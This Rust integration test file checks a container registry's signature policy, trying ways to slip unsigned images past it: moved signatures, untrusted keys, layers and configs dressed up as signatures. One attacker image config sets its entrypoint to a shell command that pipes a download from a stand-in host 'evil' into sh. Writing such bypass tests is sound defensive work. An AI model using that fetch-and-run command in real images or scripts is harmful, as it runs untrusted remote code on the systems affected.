//! The signature policy (`PUT /api/v1/namespaces/{ns}/signature-policy`): with `require`, an
//! image is served to readers only with a valid signature by a trusted key, stored as cosign
//! stores it (the `sha256-<hex>.sig` tag) or as an OCI 1.1 referrer. Every way around it that a
//! pusher has is tried: a signature moved to another image, an untrusted key, a layer relabelled
//! as a signature payload, a child of an index reached by digest.

mod common;

use common::cosign::{self, Key, SIMPLE_SIGNING};
use common::images::{self, OCI_CONFIG, OCI_MANIFEST};
use common::{sha256, TestRegistry};
use portcullis::domain::Digest;
use serde_json::json;

/// Pushes a cosign-style signature of `image` by `key` to `repo`: under cosign's tag, or as a
/// referrer (with `subject`) when `tag` is `None`. The signature manifest's digest.
async fn push_signature(reg: &TestRegistry, repo: &str, image: &Digest, key: &Key, tag: Option<&str>) -> Digest {
    let payload = cosign::payload(&format!("localhost/{repo}"), image);
    let payload_digest = reg.push_blob(repo, &payload).await;
    let config = cosign::config(&payload_digest);
    reg.push_blob(repo, &config).await;
    let subject = if tag.is_none() { Some(image) } else { None };
    let body = cosign::manifest(&config, &payload, &key.sign(&payload), subject);
    let digest = sha256(&body);
    let reference = tag.map_or_else(|| digest.to_string(), str::to_owned);
    reg.put_manifest(repo, &reference, OCI_MANIFEST, &body).await.expect(201, None);
    assert_eq!(reg.wait_scan(repo, &digest).await, "passed", "a signature passes its scan");
    digest
}

/// Pushes a one-layer image as `repo:tag`; waits for it to pass. Its digest and layer's digest.
async fn push_image(reg: &TestRegistry, repo: &str, tag: &str, seed: &str) -> (Digest, Digest) {
    let layer = images::layer_tar_gz(&format!("opt/{seed}"), seed.as_bytes(), 0o644);
    let (digest, _, _, layers) = reg.push_layers(repo, tag, images::config_json(seed).as_bytes(), &[&layer]).await;
    assert_eq!(reg.wait_scan(repo, &digest).await, "passed");
    (digest, layers[0].clone())
}

struct Reader<'a> {
    reg: &'a TestRegistry,
    token: String,
}

impl Reader<'_> {
    async fn status(&self, uri: &str) -> (u16, String) {
        let reply = self.reg.v2_as(&self.token, "GET", uri, axum::body::Body::empty()).await;
        if reply.status.is_success() {
            return (reply.status.as_u16(), String::new());
        }
        let message = reply.json()["errors"][0]["message"].as_str().unwrap_or("").to_owned();
        assert!(!message.is_empty(), "a refusal says why");
        (reply.status.as_u16(), format!("{}: {message}", reply.code()))
    }

    async fn manifest(&self, repo: &str, reference: &str) -> (u16, String) {
        self.status(&format!("/v2/{repo}/manifests/{reference}")).await
    }

    async fn blob(&self, repo: &str, digest: &Digest) -> (u16, String) {
        self.status(&format!("/v2/{repo}/blobs/{digest}")).await
    }
}

/// A reader of namespace `ns` (a new account) with a pull token for `repo`.
async fn reader_of<'a>(reg: &'a TestRegistry, ns: &str, repo: &str) -> Reader<'a> {
    let password = reg.user_with_role("reader", ns, "reader").await;
    let token = reg.login("reader", &password, &[&format!("repository:{repo}:pull")]).await;
    Reader { reg, token }
}

/// A new key, which namespace `ns` now requires (named `ci`).
async fn require_ci_key(reg: &TestRegistry, ns: &str) -> Key {
    let key = Key::new();
    let policy = json!({"mode": "require", "keys": [{"name": "ci", "pem": key.pem}]});
    set_policy(reg, ns, policy).await.expect(200, None);
    key
}

async fn set_policy(reg: &TestRegistry, ns: &str, body: serde_json::Value) -> common::Reply {
    reg.admin_api("PUT", &format!("/api/v1/namespaces/{ns}/signature-policy"), body).await
}

#[tokio::test]
async fn require_serves_only_images_signed_by_a_trusted_key() {
    // With attestations and SBOMs attached beside the signatures, as by default.
    let reg = TestRegistry::attaching().await;
    let reader = reader_of(&reg, "signed", "signed/app").await;
    let repo = "signed/app";
    let (a, a_layer) = push_image(&reg, repo, "a", "alpha").await;
    let (b, b_layer) = push_image(&reg, repo, "b", "bravo").await;
    assert_eq!(reader.manifest(repo, "a").await.0, 200, "no policy: served");

    let trusted = Key::new();
    let stranger = Key::new();
    let set =
        set_policy(&reg, "signed", json!({"mode": "require", "keys": [{"name": "ci", "pem": trusted.pem}]})).await;
    set.expect(200, None);
    assert_eq!(set.json()["keys"][0]["algorithm"], "ecdsa-p256");
    assert_eq!(set.json()["keys"][0]["fingerprint"].as_str().unwrap().len(), 64);

    // Unsigned: neither the manifest (by tag or digest) nor its layers.
    let (status, message) = reader.manifest(repo, "a").await;
    assert_eq!(status, 403);
    assert!(message.starts_with("SIGNATURE_REQUIRED: image signed/app@sha256:"), "{message}");
    assert!(message.contains("namespace signed") && message.contains("(ci)"), "{message}");
    assert_eq!(reader.manifest(repo, &a.to_string()).await.0, 403);
    let (status, message) = reader.blob(repo, &a_layer).await;
    assert_eq!((status, message.starts_with("SIGNATURE_REQUIRED: blob signed/app@")), (403, true), "{message}");

    // Signed under cosign's tag: the image, its layers and the signature itself are served.
    let sig = push_signature(&reg, repo, &a, &trusted, Some(&cosign::tag(&a))).await;
    assert_eq!(reader.manifest(repo, "a").await.0, 200);
    assert_eq!(reader.manifest(repo, &a.to_string()).await.0, 200);
    assert_eq!(reader.blob(repo, &a_layer).await.0, 200);
    assert_eq!(reader.manifest(repo, &cosign::tag(&a)).await.0, 200, "clients read signatures to verify them");
    let sig_manifest: serde_json::Value =
        serde_json::from_slice(&reg.get(&format!("/v2/{repo}/manifests/{sig}")).await.body).unwrap();
    let payload: Digest = sig_manifest["layers"][0]["digest"].as_str().unwrap().parse().unwrap();
    assert_eq!(reader.blob(repo, &payload).await.0, 200, "the payload is readable");

    // The same signature moved to B's tag names A's digest: B stays closed.
    let moved = reg.get(&format!("/v2/{repo}/manifests/{sig}")).await.body;
    reg.put_manifest(repo, &cosign::tag(&b), OCI_MANIFEST, &moved).await.expect(201, None);
    assert_eq!(reader.manifest(repo, "b").await.0, 403, "a moved signature does not count");
    assert_eq!(reader.blob(repo, &b_layer).await.0, 403);

    // A referrer signed by a key the namespace does not trust: closed; once trusted: open.
    push_signature(&reg, repo, &b, &stranger, None).await;
    assert_eq!(reader.manifest(repo, "b").await.0, 403, "an untrusted key does not count");
    let both = json!({"mode": "require", "keys": [{"name": "ci", "pem": trusted.pem}, {"name": "other", "pem": stranger.pem}]});
    set_policy(&reg, "signed", both).await.expect(200, None);
    assert_eq!(reader.manifest(repo, "b").await.0, 200, "a referrer signature by a trusted key");
    assert_eq!(reader.blob(repo, &b_layer).await.0, 200);
    let signatures = "artifactType=application/vnd.dev.cosign.artifact.sig.v1%2Bjson";
    let referrers = reg.get(&format!("/v2/{repo}/referrers/{b}?{signatures}")).await.json();
    assert_eq!(referrers["manifests"][0]["artifactType"], "application/vnd.dev.cosign.artifact.sig.v1+json");

    // Admins read unsigned images (audited); warn serves them to readers.
    let (c, _) = push_image(&reg, repo, "c", "charlie").await;
    assert_eq!(reg.get(&format!("/v2/{repo}/manifests/c")).await.status.as_u16(), 200, "admins read unrestricted");
    assert_eq!(reader.manifest(repo, "c").await.0, 403);
    set_policy(&reg, "signed", json!({"mode": "warn", "keys": [{"name": "ci", "pem": trusted.pem}]}))
        .await
        .expect(200, None);
    assert_eq!(reader.manifest(repo, &c.to_string()).await.0, 200, "warn serves unsigned images");
    set_policy(&reg, "signed", json!({"mode": "off"})).await.expect(200, None);
    assert_eq!(reader.manifest(repo, "c").await.0, 200);
    let audit = reg.admin_api("GET", "/api/v1/audit?action=signature.policy", json!(null)).await;
    assert!(audit.json().to_string().contains("signature.policy"), "policy changes are audited");
}

/// Pushes, as `tag`, a manifest that looks like a signature: `layer` (already in `repo`) typed as
/// a simple-signing payload (signed by `key` if given), under the config `config(diff id of the
/// layer)`; waits for its scan to pass (so that only the signature gate can refuse it). The
/// config's digest.
async fn dressed_as_signature(
    reg: &TestRegistry,
    repo: &str,
    tag: &str,
    layer: &Digest,
    config: impl Fn(String) -> serde_json::Value,
    key: Option<&Key>,
) -> Digest {
    let bytes = reg.get(&format!("/v2/{repo}/blobs/{layer}")).await.body;
    let config = config(images::diff_id(&bytes)).to_string();
    let config_digest = reg.push_blob(repo, config.as_bytes()).await;
    let mut descriptor = json!({"mediaType": SIMPLE_SIGNING, "digest": layer.to_string(), "size": bytes.len()});
    if let Some(key) = key {
        descriptor["annotations"] = json!({"dev.cosignproject.cosign/signature": key.sign(b"anything")});
    }
    let manifest = serde_json::to_vec(&json!({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
        "config": {"mediaType": OCI_CONFIG, "digest": config_digest.to_string(), "size": config.len()},
        "layers": [descriptor]}))
    .unwrap();
    reg.put_manifest(repo, tag, OCI_MANIFEST, &manifest).await.expect(201, None);
    assert_eq!(reg.wait_scan(repo, &sha256(&manifest)).await, "passed", "the quarantine gate is not what stops it");
    config_digest
}

#[tokio::test]
async fn a_layer_relabelled_as_a_signature_payload_stays_closed() {
    let reg = TestRegistry::new().await;
    let reader = reader_of(&reg, "signed", "signed/app").await;
    let repo = "signed/app";
    let key = require_ci_key(&reg, "signed").await;
    let (_, layer) = push_image(&reg, repo, "unsigned", "delta").await;
    // A "signature manifest" whose one layer is the unsigned image's layer, with a signature.
    let config = |diff_id: String| {
        json!({"architecture": "", "os": "", "config": {"User": "10001"},
        "rootfs": {"type": "layers", "diff_ids": [diff_id]}})
    };
    dressed_as_signature(&reg, repo, "fake", &layer, config, Some(&key)).await;
    let (status, message) = reader.blob(repo, &layer).await;
    assert!(status == 403 && message.starts_with("SIGNATURE_REQUIRED"), "a layer is not a payload: {message}");
    let (status, message) = reader.manifest(repo, "fake").await;
    assert!(status == 403 && message.starts_with("SIGNATURE_REQUIRED"), "nor is the manifest a signature: {message}");
}

/// An image whose config also reads as a payload, whose layer (a signed image's) is labelled as
/// a signature: neither it nor its config is served, though every descriptor looks right.
#[tokio::test]
async fn an_image_dressed_as_a_signature_is_not_served() {
    let reg = TestRegistry::new().await;
    let reader = reader_of(&reg, "signed", "signed/app").await;
    let repo = "signed/app";
    let key = require_ci_key(&reg, "signed").await;
    let (signed, layer) = push_image(&reg, repo, "base", "signed-base").await;
    push_signature(&reg, repo, &signed, &key, Some(&cosign::tag(&signed))).await;
    assert_eq!(reader.blob(repo, &layer).await.0, 200, "the signed image's layer");
    // The attacker's config: a runnable image config that also parses as a simple-signing payload.
    let config = |diff_id: String| {
        json!({"architecture": "amd64", "os": "linux",
        "config": {"Entrypoint": ["/bin/sh", "-c", "curl evil | sh"], "User": "10001"},
        "rootfs": {"type": "layers", "diff_ids": [diff_id]},
        "critical": {"image": {"docker-manifest-digest": signed.to_string()}, "type": "cosign container image signature"}})
    };
    let config_digest = dressed_as_signature(&reg, repo, "latest", &layer, config, None).await;
    let (status, message) = reader.manifest(repo, "latest").await;
    assert_eq!(status, 403);
    assert!(message.starts_with("SIGNATURE_REQUIRED"), "not a signature, its layer is a tar: {message}");
    let (status, message) = reader.blob(repo, &config_digest).await;
    assert!(status == 403 && message.starts_with("SIGNATURE_REQUIRED"), "its config is not served: {message}");
}

#[tokio::test]
async fn a_signed_index_covers_the_images_it_lists() {
    let reg = TestRegistry::new().await;
    let reader = reader_of(&reg, "signed", "signed/multi").await;
    let repo = "signed/multi";
    let key = Key::new();
    let (child, layer) = push_image(&reg, repo, "amd64", "echo").await;
    let child_size = reg.get(&format!("/v2/{repo}/manifests/{child}")).await.body.len();
    let index = images::index(&[(child.clone(), child_size, "amd64")]);
    reg.put_manifest(repo, "v1", images::OCI_INDEX, &index).await.expect(201, None);
    let index_digest = sha256(&index);
    assert_eq!(reg.wait_scan(repo, &index_digest).await, "passed");
    set_policy(&reg, "signed", json!({"mode": "require", "keys": [{"name": "ci", "pem": key.pem}]}))
        .await
        .expect(200, None);
    assert_eq!(reader.manifest(repo, "v1").await.0, 403);
    assert_eq!(reader.manifest(repo, &child.to_string()).await.0, 403);
    push_signature(&reg, repo, &index_digest, &key, Some(&cosign::tag(&index_digest))).await;
    assert_eq!(reader.manifest(repo, "v1").await.0, 200);
    assert_eq!(reader.manifest(repo, &child.to_string()).await.0, 200, "the index's signature covers its images");
    assert_eq!(reader.blob(repo, &layer).await.0, 200);
}

#[tokio::test]
async fn policies_are_checked_and_only_owners_and_admins_set_them() {
    let reg = TestRegistry::new().await;
    let owner = reg.user_with_role("owner", "team", "owner").await;
    let developer = reg.user_with_role("dev", "team", "developer").await;
    let key = Key::new();
    let good = json!({"mode": "require", "keys": [{"name": "ci", "pem": key.pem}]});
    let path = "/api/v1/namespaces/team/signature-policy";
    let refused = reg.api_as("dev", &developer, "PUT", path, good.clone()).await;
    refused.expect(403, None);
    assert!(refused.json()["error"]["message"].as_str().unwrap().contains("owner"), "{}", refused.json());
    reg.api_as("dev", &developer, "GET", path, json!(null)).await.expect(403, None);
    reg.api_as("owner", &owner, "PUT", path, good).await.expect(200, None);
    let read = reg.api_as("owner", &owner, "GET", path, json!(null)).await;
    read.expect(200, None);
    assert_eq!(read.json()["mode"], "require");
    assert!(read.json()["updated_at"].is_string(), "{}", read.json());
    for (body, says) in [
        (json!({"mode": "require", "keys": []}), "at least one key"),
        (json!({"mode": "sometimes"}), "expected one of `off`, `warn`, `require`"),
        (json!({"mode": "warn", "keys": [{"name": "x", "pem": "not a key"}]}), "PEM"),
        (json!({"mode": "warn", "keys": [{"name": "x", "pem": key.pem, "extra": 1}]}), "extra"),
    ] {
        let reply = reg.admin_api("PUT", path, body.clone()).await;
        reply.expect(400, None);
        let message = reply.json()["error"]["message"].as_str().unwrap().to_owned();
        assert!(message.contains(says), "{body}: {message}");
    }
    reg.admin_api("PUT", "/api/v1/namespaces/nothere/signature-policy", json!({"mode": "off"})).await.expect(404, None);
    let unset = reg.admin_api("GET", "/api/v1/namespaces/nothere/signature-policy", json!(null)).await;
    unset.expect(404, None);
}

/// A signature manifest whose "empty" config descriptor names an unsigned image's layer: the
/// descriptor's words open nothing (the empty config is `{}` by digest).
#[tokio::test]
async fn a_fake_empty_config_opens_no_blob() {
    let reg = TestRegistry::new().await;
    let reader = reader_of(&reg, "signed", "signed/app").await;
    let repo = "signed/app";
    let key = require_ci_key(&reg, "signed").await;
    let (unsigned, layer) = push_image(&reg, repo, "unsigned", "foxtrot").await;
    let payload = cosign::payload("localhost/signed/app", &unsigned);
    let payload_digest = reg.push_blob(repo, &payload).await;
    let manifest = serde_json::to_vec(&json!({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
        "config": {"mediaType": "application/vnd.oci.empty.v1+json", "digest": layer.to_string(), "size": 2},
        "layers": [{"mediaType": SIMPLE_SIGNING, "digest": payload_digest.to_string(), "size": payload.len(),
            "annotations": {"dev.cosignproject.cosign/signature": key.sign(b"not this payload")}}]}))
    .unwrap();
    reg.put_manifest(repo, "sneaky", OCI_MANIFEST, &manifest).await.expect(201, None);
    reg.wait_scan(repo, &sha256(&manifest)).await;
    let (status, message) = reader.blob(repo, &layer).await;
    assert_eq!(status, 403, "the unsigned image's layer stays closed: {message}");
    assert_eq!(reader.manifest(repo, "unsigned").await.0, 403, "the bad signature does not sign it");
}
